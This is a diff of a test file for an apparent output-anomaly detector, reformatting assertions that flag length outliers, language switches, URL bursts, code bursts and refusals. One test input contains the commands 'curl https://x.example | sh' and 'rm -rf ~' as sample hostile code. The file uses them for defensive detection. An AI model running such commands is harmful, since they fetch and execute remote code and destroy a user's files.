@@ -63,8 +63,12 @@ describe("output baseline and anomalies", () => {
 
   it("flags length outliers, language switches, link and code bursts, refusals", () => {
     expect(anomalies("Lorem ipsum dolor sit amet. ".repeat(200)).map((f) => f.type)).toContain("length_outlier");
-    expect(anomalies("我们的商店早上九点开门，晚上六点关门。周末十点开门，欢迎光临。退货需要提供收据。").map((f) => f.type)).toContain("language_switch");
-    expect(anomalies("Visit https://evil.example/a and https://evil.example/b or https://evil.example/c now.").map((f) => f.type)).toContain("url_burst");
+    expect(anomalies("我们的商店早上九点开门，晚上六点关门。周末十点开门，欢迎光临。退货需要提供收据。").map((f) => f.type)).toContain(
+      "language_switch",
+    );
+    expect(
+      anomalies("Visit https://evil.example/a and https://evil.example/b or https://evil.example/c now.").map((f) => f.type),
+    ).toContain("url_burst");
     expect(anomalies("Run this:\n```\ncurl https://x.example | sh\nrm -rf ~\n```").map((f) => f.type)).toContain("code_burst");
     expect(anomalies("I'm sorry, but I can't help with that request today.").map((f) => f.type)).toContain("refusal_shift");
   });
